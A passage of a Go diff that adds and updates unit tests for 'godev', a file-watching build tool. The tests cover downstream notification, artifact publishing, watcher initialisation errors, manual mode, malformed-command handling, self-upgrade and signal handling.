+	defer downstream.Close()
+	s.initialiseSession("true", "sleep 10")
+	s.godev.config.NotifyAddresses = []string{downstream.URL}
+	ctx, cancel := context.WithCancel(context.Background())
+	defer cancel()
+	stopped := make(chan error)
+	go func() { stopped <- s.godev.Run(ctx) }()
+	select {
+	case source := <-triggered:
+		assert.Equal(t, s.godev.config.WatchDirectory, source)
+	case <-time.After(5 * time.Second):
+		assert.Fail(t, "expected downstream to be notified while the application keeps running")
+	}
+	cancel()
+	assert.Nil(t, <-stopped)
+}
+
+func (s *MainTestSuite) Test_publish() {
+	t := s.T()
+	s.logs.Reset()
+	s.godev.publish(&Event{Name: EventBuildCompleted, Pipeline: 1})
+	assert.NotContains(t, s.logs.String(), "publish")
+	s.godev.config.PublishTarget = "artifacts"
+	s.godev.config.BuildOutput = "/work/directory/bin/app"
+	assert.Nil(s.T(), s.godev.initialiseRunner(context.Background()))
+	assert.Equal(t, "/work/directory/artifacts", s.godev.publisher.config.Destination)
+	s.godev.publish(&Event{Name: EventBuildCompleted, Pipeline: 2})
+	assert.Contains(t, s.logs.String(), "unable to publish pipeline 2")
+}
+
+func (s *MainTestSuite) TestRun_publishesBuildsWhileTheApplicationRuns() {
+	t := s.T()
+	s.initialiseSession("sh -c 'echo app > app'", "sleep 10")
+	s.godev.config.BuildOutput = path.Join(s.godev.config.WorkDirectory, "app")
+	s.godev.config.PublishTarget = "artifacts"
+	ctx, cancel := context.WithCancel(context.Background())
+	defer cancel()
+	stopped := make(chan error)
+	go func() { stopped <- s.godev.Run(ctx) }()
+	latest := path.Join(s.godev.config.WorkDirectory, "artifacts", "latest.json")
+	for deadline := time.Now().Add(5 * time.Second); time.Now().Before(deadline); time.Sleep(50 * time.Millisecond) {
+		if strings.Contains(s.logs.String(), "published pipeline 1 to") {
+			break
+		}
+	}
+	assert.Contains(t, s.logs.String(), "published pipeline 1 to", "expected the build to be published while the application keeps running")
+	assert.True(t, fileExists(latest))
+	cancel()
+	assert.Nil(t, <-stopped)
+}
+
 func (s *MainTestSuite) Test_initialiseWatcher() {
 	t := s.T()
 	s.godev.config.FileExtensions = []string{"a", "b", "c"}
@@ -132,19 +740,13 @@ func (s *MainTestSuite) Test_initialiseWatcher() {
 	s.godev.config.Rate = time.Second * 2
 	s.godev.config.WatchDirectory = getCurrentWorkingDirectory()
 	assert.Nil(t, s.godev.watcher)
-	s.godev.initialiseWatcher()
+	assert.Nil(t, s.godev.initialiseWatcher())
 	assert.NotNil(t, s.godev.watcher)
+	s.godev.watcher.Close()
 }
 
 func (s *MainTestSuite) Test_initialiseWatcher_withInvalidWatchDirectory() {
-	defer func() {
-		r := recover()
-		assert.Contains(
-			s.T(),
-			string(r.(string)),
-			"/does/and/should/not/exist' does not exist",
-		)
-	}()
+	t := s.T()
 	s.godev.config.FileExtensions = []string{"a", "b", "c"}
 	s.godev.config.IgnoredNames = []string{"d", "e", "f"}
 	s.godev.config.Rate = time.Second * 2
@@ -153,8 +755,18 @@ func (s *MainTestSuite) Test_initialiseWatcher_withInvalidWatchDirectory() {
 			getCurrentWorkingDirectory(),
 			"/does/and/should/not/exist",
 		)
-	assert.Nil(s.T(), s.godev.watcher)
-	s.godev.initialiseWatcher()
+	assert.Nil(t, s.godev.watcher)
+	err := s.godev.initialiseWatcher()
+	assert.NotNil(t, err)
+	assert.Contains(t, err.Error(), "/does/and/should/not/exist' does not exist")
+	s.godev.watcher.Close()
+}
+
+func (s *MainTestSuite) Test_initialiseWatcher_withManual() {
+	t := s.T()
+	s.godev.config.Manual = true
+	assert.Nil(t, s.godev.initialiseWatcher())
+	assert.Nil(t, s.godev.watcher)
 }
 
 func (s *MainTestSuite) Test_logUniversalConfiguration() {
@@ -171,7 +783,7 @@ func (s *MainTestSuite) Test_logUniversalConfiguration() {
 
 func (s *MainTestSuite) Test_logWatchModeConfigurations() {
 	t := s.T()
-	s.godev.logWatchModeConfigurations()
+	assert.Nil(t, s.godev.logWatchModeConfigurations())
 	logs := s.logs.String()
 	assert.Contains(t, logs, "environment")
 	assert.Contains(t, logs, "file extensions")
@@ -184,3 +796,26 @@ func (s *MainTestSuite) Test_logWatchModeConfigurations() {
 	assert.Contains(t, logs, "3) echo ''")
 	assert.Contains(t, logs, "test arg")
 }
+
+func (s *MainTestSuite) Test_logWatchModeConfigurations_withInvalidCommand() {
+	t := s.T()
+	s.godev.config.ExecGroups = []string{"echo 'a"}
+	err := s.godev.logWatchModeConfigurations()
+	assert.NotNil(t, err, "expected an unterminated quote to be returned instead of panicking")
+}
+
+func (s *MainTestSuite) Test_handleSelfUpgrade_withoutArgs() {
+	t := s.T()
+	s.godev.self = InitSelfWatcher(&SelfWatcherConfig{Executable: "/usr/local/bin/godev"})
+	s.godev.config.SelfReload = true
+	s.godev.handleSelfUpgrade()
+	assert.Contains(t, s.logs.String(), "restart godev since the arguments it was started with are unknown", "expected godev not to re-execute with the arguments of the embedding program")
+}
+
+func (s *MainTestSuite) Test_handleSignals_withIgnoreSignals() {
+	t := s.T()
+	s.godev.config.IgnoreSignals = true
+	s.godev.handleSignals(func() { t.Error("expected signals to be left to the embedding program") })()
+	assert.False(t, s.godev.isStopped())
+	assert.Nil(t, s.godev.getStopError())
+}